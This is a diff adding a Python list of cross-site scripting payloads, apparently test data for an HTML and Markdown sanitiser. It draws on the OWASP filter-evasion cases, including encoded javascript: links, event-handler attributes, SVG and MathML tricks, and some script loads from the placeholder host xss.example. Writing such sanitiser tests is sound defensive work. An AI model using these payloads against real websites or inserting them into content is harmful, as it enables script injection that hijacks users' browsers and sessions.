@@ -1,0 +1,83 @@
+"""Cross-site scripting payloads: the OWASP filter-evasion cases and more.
+
+Every payload calls ``alert`` (or loads something) if it ever runs; the browser test also
+inspects the DOM, since the Content-Security-Policy alone would hide a sanitiser's failure.
+"""
+
+PAYLOADS = [
+    "<script>alert('xss')</script>",
+    "<SCRIPT SRC=//xss.example/xss.js></SCRIPT>",
+    "<IMG SRC=\"javascript:alert('XSS');\">",
+    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
+    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
+    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
+    "<img src=x onerror=alert(1)>",
+    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
+    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
+    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
+    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
+    '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
+    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
+    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
+    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
+    "<iframe src=http://xss.example/scriptlet.html <",
+    "\\\";alert('XSS');//",
+    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
+    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
+    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
+    "<svg/onload=alert('XSS')>",
+    "<svg><script>alert(1)</script></svg>",
+    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
+    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
+    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
+    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
+    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
+    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
+    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,'
+    'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
+    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
+    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
+    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
+    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
+    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3Jn'
+    "LzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRw"
+    "Oi8vd3d3LnczLm9yZy8xOTk5L3hsaW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQi"
+    "IGhlaWdodD0iMjAwIiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh"
+    'TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always">'
+    "</EMBED>",
+    "<BASE HREF=\"javascript:alert('XSS');//\">",
+    '<form action="javascript:alert(1)"><button>go</button></form>',
+    '<button formaction="javascript:alert(1)">go</button>',
+    "<details open ontoggle=alert(1)>",
+    '<a href="javascript:alert(1)">klik</a>',
+    '<a href="JaVaScRiPt:alert(1)">klik</a>',
+    '<a href="&#x6A;avascript:alert(1)">klik</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klik</a>',
+    '<a href="vbscript:msgbox(1)">klik</a>',
+    '<a href="https://wijk.example" onmouseover="alert(1)">hover</a>',
+    "[klik](javascript:alert(1))",
+    "[klik](JAVASCRIPT:alert(1))",
+    "[klik](data:text/html,<script>alert(1)</script>)",
+    "[klik](&#106;avascript:alert(1))",
+    "![plaatje](javascript:alert(1))",
+    '![x](x" onerror="alert(1))',
+    '[a](https://wijk.example "title" onclick="alert(1)")',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "<template><script>alert(1)</script></template>",
+    '<object data="javascript:alert(1)">',
+    '<link rel=stylesheet href="http://xss.example/xss.css">',
+    "'';!--\"<XSS>=&{()}",
+    '"><script>alert(document.domain)</script>',
+    "' onfocus='alert(1)' autofocus='",
+    '" onfocus="alert(1)" autofocus="',
+    "{{ 7*7 }} {% debug %}",
+    "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
+    '<video><source onerror="alert(1)"></video>',
+    "<audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "`<img src=x onerror=alert(1)>`",
+    "```\n<script>alert(1)</script>\n```",
+]
